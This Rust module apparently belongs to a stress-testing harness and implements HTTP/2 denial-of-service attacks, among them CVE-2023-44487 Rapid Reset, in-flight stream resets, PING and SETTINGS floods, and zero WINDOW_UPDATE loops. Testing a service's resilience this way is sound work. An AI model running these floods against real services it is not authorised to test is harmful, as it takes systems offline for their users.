//! Attacks with streams and control frames.

use std::io;

use tokio::time::sleep;

use super::{CREATE, GET, STEP, Target};
use crate::support::http2::{self, END_HEADERS, frame};

/// CVE-2023-44487: as many calls as can be, each reset at once. At 40 000 a second, all
/// together: more would only measure the attacker.
pub(super) async fn rapid_resets(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(GET, &[]);
    loop {
        let mut pairs = Vec::new();
        for _ in 0..100 {
            let id = sender.next_stream_id();
            pairs.extend(frame(http2::HEADERS, END_HEADERS, id, &block));
            pairs.extend(frame(http2::RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        sender.send(&pairs).await?;
        target.done();
        sleep(STEP).await;
    }
}

/// The same for calls that the service has begun to answer.
pub(super) async fn resets_of_calls_in_flight(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(GET, &[]);
    loop {
        let ids: Vec<_> = (0..10).map(|_| sender.next_stream_id()).collect();
        for id in &ids {
            sender.send(&frame(http2::HEADERS, END_HEADERS, *id, &block)).await?;
        }
        sleep(STEP / 2).await;
        for id in ids {
            sender.send(&frame(http2::RST_STREAM, 0, id, &8_u32.to_be_bytes())).await?;
        }
        target.done();
        sleep(STEP / 2).await;
    }
}

/// 10 000 a second from each.
pub(super) async fn pings(target: Target) -> io::Result<()> {
    flood(target, &frame(http2::PING, 0, 0, &[0; 8])).await
}

/// 10 000 a second from each.
pub(super) async fn settings(target: Target) -> io::Result<()> {
    flood(target, &http2::settings_frame(http2::INITIAL_WINDOW_SIZE, 65_535)).await
}

pub(super) async fn flood(target: Target, frame: &[u8]) -> io::Result<()> {
    let mut sender = target.sender().await?;
    loop {
        sender.send(&frame.repeat(100)).await?;
        target.done();
        sleep(STEP).await;
    }
}

/// Which is an error of the stream, or of the connection.
pub(super) async fn empty_window_updates(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(CREATE, &[]);
    loop {
        let id = sender.next_stream_id();
        sender.send(&frame(http2::HEADERS, END_HEADERS, id, &block)).await?;
        let of = if target.worker == 0 { 0 } else { id };
        sender.send(&frame(http2::WINDOW_UPDATE, 0, of, &[0; 4])).await?;
        target.done();
        sleep(STEP / 10).await;
    }
}
